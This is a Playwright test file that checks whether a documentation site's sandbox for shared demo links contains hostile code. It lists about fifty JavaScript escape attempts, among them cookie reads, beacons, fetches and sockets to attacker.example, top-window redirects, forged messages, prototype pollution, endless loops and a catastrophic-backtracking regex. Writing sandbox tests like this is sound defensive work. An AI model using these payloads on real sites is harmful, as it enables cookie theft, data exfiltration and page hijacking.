import type { BrowserContext, Page } from '@playwright/test';
import { expect, test } from '../support/test';
import { SANDBOX_ADDRESS, SANDBOX_SCRIPT } from '../../src/site/demoSandbox';
import { withIsolation } from '../support/isolatedBrowser';
import { sharedHash } from '../support/sharedDemo';
import { waitForHydration } from '../support/site';
import { sweepIf } from '../support/sweep';

/** Browsers add a history entry for what a policy blocks; readers can go back past it. */
const FORM_IN_SHADOW = 'submits a form from a shadow tree';

/**
 * A shared link can contain anyone's code. Each row is an attempt to escape the demo's document, in
 * an effect and on a click; whatever it reaches shows in the page or in its requests.
 */
const ATTACKS: Readonly<Record<string, string>> = {
  'reads cookies': "parent.postMessage('attacked ' + document.cookie, '*')",
  'writes cookies': "document.cookie = 'attacked=1; path=/'",
  'reads the page’s document': 'parent.document.title = "attacked"',
  'reads the page’s storage': 'parent.localStorage.setItem("attacked", "1")',
  'writes its own storage':
    'localStorage.setItem("attacked", "1"); sessionStorage.setItem("attacked", "1")',
  'opens a database': 'indexedDB.open("attacked")',
  'opens a cache': 'caches.open("attacked")',
  'navigates the page': 'parent.location.href = "https://attacker.example/"',
  'navigates the top window': 'top.location.replace("https://attacker.example/")',
  'changes the page’s hash': 'parent.location.hash = "attacked"',
  'opens a link in the top window':
    'const a = document.createElement("a"); a.href = "https://attacker.example/"; a.target = "_top"; document.body.append(a); a.click()',
  'opens a window': 'window.open("https://attacker.example/")',
  'shows dialogs': 'alert("attacked"); confirm("attacked"); prompt("attacked")',
  prints: 'print()',
  'registers a worker for the site': 'navigator.serviceWorker.register("/toolpad/sw.js")',
  'starts a worker': 'new Worker("data:text/javascript,0")',
  'starts a shared worker': 'new SharedWorker("data:text/javascript,0")',
  'fetches from another site': 'fetch("https://attacker.example/")',
  'fetches from the site': 'fetch("/toolpad/")',
  'sends an XMLHttpRequest':
    'const x = new XMLHttpRequest(); x.open("GET", "https://attacker.example/"); x.send()',
  'sends a beacon': 'navigator.sendBeacon("https://attacker.example/", "x")',
  'opens a socket': 'new WebSocket("wss://attacker.example/")',
  'sends an image request': 'new Image().src = "https://attacker.example/x.png"',
  'sends a style sheet request':
    'const s = document.createElement("style"); s.textContent = "@import \'https://attacker.example/x.css\'"; document.head.append(s)',
  'submits a form':
    'const f = document.createElement("form"); f.action = "https://attacker.example/"; document.body.append(f); f.submit()',
  'loads a script':
    'const s = document.createElement("script"); s.src = "https://attacker.example/x.js"; document.head.append(s)',
  'imports a module': 'new Function("return import(\'https://attacker.example/x.js\')")()',
  'evaluates strings': 'setTimeout("parent.postMessage(\'attacked\', \'*\')"); eval("1")',
  'redirects with a meta element':
    'document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\'0;url=https://attacker.example/\'>")',
  'sets a base URL':
    'const b = document.createElement("base"); b.href = "https://attacker.example/"; document.head.append(b)',
  'frames another site':
    'const i = document.createElement("iframe"); i.src = "https://attacker.example/"; document.body.append(i)',
  'frames the site':
    'const i = document.createElement("iframe"); i.src = "/toolpad/"; document.body.append(i)',
  'uses the clipboard': 'navigator.clipboard.readText(); navigator.clipboard.writeText("attacked")',
  'requests full screen and pointer lock':
    'document.documentElement.requestFullscreen(); document.body.requestPointerLock()',
  'downloads a file':
    'const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x"; document.body.append(a); a.click()',
  'fills the history':
    'for (let i = 0; i < 50; i++) history.pushState({}, "", "?" + i); history.back()',
  'goes back from its own iframe':
    'const i = document.createElement("iframe"); document.body.append(i); i.contentWindow.history.back()',
  'evaluates code in its own iframe':
    'const i = document.createElement("iframe"); document.body.append(i); i.contentWindow.parent.parent.postMessage("attacked " + i.contentWindow.eval("parent.parent.document.cookie"), "*")',
  'recreates the script policy in its own iframe':
    'const i = document.createElement("iframe"); document.body.append(i); const w = i.contentWindow; w.trustedTypes.createPolicy("demo", { createScript: (s) => s }); parent.postMessage("attacked by a policy", "*")',
  'runs the sandbox script in its own iframe': `const i = document.createElement("iframe"); i.srcdoc = ${JSON.stringify(`<script>${SANDBOX_SCRIPT}</script>`)}; i.onload = () => i.contentWindow.postMessage("parent.parent.postMessage('attacked by a frame', '*')", "*", [new MessageChannel().port1]); document.body.append(i)`,
  'runs an inline event handler':
    'document.body.insertAdjacentHTML("beforeend", "<details open ontoggle=\\"parent.postMessage(\'attacked\', \'*\')\\">x</details>")',
  [FORM_IN_SHADOW]:
    'const h = document.createElement("div"); document.body.append(h); h.attachShadow({ mode: "open" }).innerHTML = "<form action=https://attacker.example/><button>x</button></form>"; h.shadowRoot.querySelector("form").requestSubmit()',
  'forges messages':
    'parent.postMessage({ type: "problem", run: 1, problem: { file: null, line: null, text: "forged" } }, "*")',
  'floods the page with messages':
    'for (let i = 0; i < 5000; i++) parent.postMessage("flood", "*")',
  'pollutes prototypes': 'Object.prototype.attacked = 1; Array.prototype.map = null',
  'loops forever': 'for (;;) {}',
  'loops in promises': '(async () => { for (;;) await 0 })()',
  'recurses forever': 'const f = () => { try { f() } finally { f() } }; f()',
  'loops in a timer': 'setInterval(() => { for (;;) {} })',
  'loops inside try and catch': 'for (;;) try { for (;;) {} } catch {}',
};

const PAGE = '/toolpad/core/react-use-session/';

/** The hash of a link to an attacking demo. */
function attackingHash(attack: string): string {
  const source = [
    "import * as React from 'react';",
    'const attack = () => {',
    `  ${attack};`,
    '};',
    'export default function SessionGreeting() {',
    '  React.useEffect(() => {',
    '    try { attack(); } catch {}',
    '  }, []);',
    `  return <p onClick={attack}>{${JSON.stringify(attack)}}</p>;`,
    '}',
  ].join('\n');
  return sharedHash(source);
}

/** How many entries the tab's history has. The page's own `history.length` may lag behind. */
async function countEntries(page: Page): Promise<number> {
  const session = await page.context().newCDPSession(page);
  const { entries } = await session.send('Page.getNavigationHistory');
  await session.detach();
  return entries.length;
}

/** Everything on the site that an attack could change. */
async function readSite(page: Page) {
  const site = await page.evaluate(async () => {
    const databases = await indexedDB.databases();
    const { origin, pathname, hash } = window.location;
    return {
      address: pathname + hash,
      title: document.title,
      cookie: document.cookie,
      stored: [localStorage.getItem('attacked'), sessionStorage.getItem('attacked')],
      databases: databases.map(({ name }) => name),
      hasCache: await caches.has('attacked'),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      isPolluted: 'attacked' in {} || typeof [].map !== 'function',
      captured: document.fullscreenElement ?? document.pointerLockElement,
      received: Reflect.get(window, 'received') as readonly unknown[],
      hasOrigin: origin !== 'null',
    };
  });
  return { ...site, entries: await countEntries(page) };
}

/** One page for all attacks of a Playwright worker: each link follows the one before. */
let context: BrowserContext;
let page: Page;
const escapes: string[] = [];

test.beforeAll(async ({ browser }) => {
  context = await browser.newContext({ viewport: { width: 1000, height: 800 } });
  // Only sees requests that the policy allows, unlike `request`.
  await context.route(/attacker\.example/, (route) => {
    escapes.push(route.request().url());
    return route.abort();
  });
  await context.addInitScript(() => {
    if (window.top === window) {
      const received: unknown[] = [];
      Object.assign(window, { received });
      window.addEventListener('message', ({ data }) => {
        if (String(data).startsWith('attacked')) {
          received.push(data);
        }
      });
      window.addEventListener('beforeprint', () => received.push('print'));
    }
  });
  page = await context.newPage();
  page.on('dialog', (dialog) => {
    escapes.push(dialog.type());
    void dialog.dismiss();
  });
  page.on('download', () => escapes.push('download'));
  page.on('worker', () => escapes.push('worker'));
  page.on('websocket', () => escapes.push('socket'));
  context.on('page', () => escapes.push('window'));
  context.on('request', (request) => {
    const isFromDemo = request.frame().url().endsWith(SANDBOX_ADDRESS);
    const isSandbox = request.isNavigationRequest() && request.url().endsWith(SANDBOX_ADDRESS);
    const isToSite = new URL(request.url()).hostname === '127.0.0.1';
    if (isFromDemo && isToSite && !isSandbox) {
      escapes.push(request.url());
    }
  });
  // A history entry to go back to.
  await page.goto('/toolpad/');
  await page.goto(PAGE);
  await waitForHydration(page);
});

test.afterAll(async () => {
  await context.close();
});

test.use({ attacked: true });

for (const [index, [name, attack]] of Object.entries(ATTACKS).entries()) {
  // Neighbors attack in similar ways: one of six.
  const title = `a shared link that ${name} does not affect the site`;
  test(title, sweepIf(index % 6 !== 0), async ({ baseURL }) => {
    const demo = page.locator('figure[id="SessionGreeting.tsx"]');
    const problem = demo.locator('.demo-problem p');
    const shown = demo.locator('tp-demo[data-edited]');
    expect(escapes, 'since the previous attack').toEqual([]);
    await page.goto(`${baseURL}${PAGE}${attackingHash(attack)}`);
    await expect(page).toHaveURL(/#SessionGreeting\.tsx$/);
    await expect(demo.locator('.cm-content')).toContainText(attack.slice(0, 10));
    // The original demo, until the reader runs the link's.
    await expect(demo.locator('iframe:not(.demo-sandbox)')).toBeVisible();
    const before = await readSite(page);
    escapes.length = 0;
    await demo.getByRole('button', { name: 'Run it' }).click();
    // Endless code is reported. Other code renders and gets a click: browsers then allow more.
    await expect(problem.or(shown)).not.toHaveCount(0);
    if ((await problem.count()) === 0) {
      await demo.locator('.demo-sandbox').click();
    }
    // The page scrolls, whatever runs in the demo.
    await page.evaluate(() => {
      window.scrollTo(0, 0);
    });
    await page.mouse.wheel(0, 300);
    await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(0);
    const after = await readSite(page);
    expect({ ...after, ...(name === FORM_IN_SHADOW && { entries: before.entries }) }).toEqual(
      before,
    );
    expect(after.received).toEqual([]);
    await expect(problem.filter({ hasText: 'forged' })).toHaveCount(0);
    expect(escapes).toEqual([]);
  });
}

test('a demo that hangs where no guard can stop it does not block the page', async ({
  baseURL,
  launchOptions,
  playwright,
}) => {
  await withIsolation({ launchOptions, playwright }, async (frozen) => {
    const hash = attackingHash('/^(a+)+$/.test("a".repeat(60) + "b")');
    await frozen.goto(`${baseURL}${PAGE}${hash}`);
    await frozen.getByRole('button', { name: 'Run it' }).click();
    await expect(frozen.locator('.demo-sandbox')).toBeAttached();
    await frozen.mouse.wheel(0, 300);
    await expect.poll(() => frozen.evaluate(() => window.scrollY)).toBeGreaterThan(0);
    await expect(frozen.locator('.demo-problem p')).toContainText('stopped responding');
    await expect(frozen.locator('.demo-sandbox')).toHaveCount(0);
  });
});
